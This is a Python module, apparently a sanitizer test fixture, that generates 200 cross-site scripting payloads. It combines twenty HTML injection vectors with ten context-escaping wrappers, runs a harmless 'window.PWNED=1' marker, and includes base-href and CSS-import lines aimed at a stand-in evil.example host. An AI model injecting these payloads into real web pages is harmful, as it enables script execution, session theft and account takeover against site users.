"""Texts that want to be more than text: two hundred of them, made from what gets a browser to run something."""

from __future__ import annotations

from itertools import product

RUN = "window.PWNED=1"
TAGS = (
    "<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<svg><script>{run}</script></svg>",
    "<body onload={run}>", "<iframe srcdoc='<script>parent.{run}</script>'>", "<a href=javascript:{run}>x</a>",
    "<details open ontoggle={run}>", "<input autofocus onfocus={run}>", "<video><source onerror={run}></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={run}>", "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>", "<form action=javascript:{run}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<link rel=stylesheet href=javascript:{run}>",
    "<base href=https://evil.example/>", "<style>@import'https://evil.example/x.css';</style>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)  # fmt: skip
WRAPPERS = (
    "{tag}", "\"'>{tag}", "--></title></textarea></script>{tag}", "</summary></details></pre>{tag}",
    "{{{{ {tag} }}}}{{% raw %}}", "\x00\u202e{tag}", "&lt;{tag}&gt;&#60;{tag}", "]]>{tag}<![CDATA[", "`${{{tag}}}`",
    "data-x=\"' {tag} \"",
)  # fmt: skip
PAYLOADS = [wrapper.format(tag=tag.format(run=RUN)) for wrapper, tag in product(WRAPPERS, TAGS)]
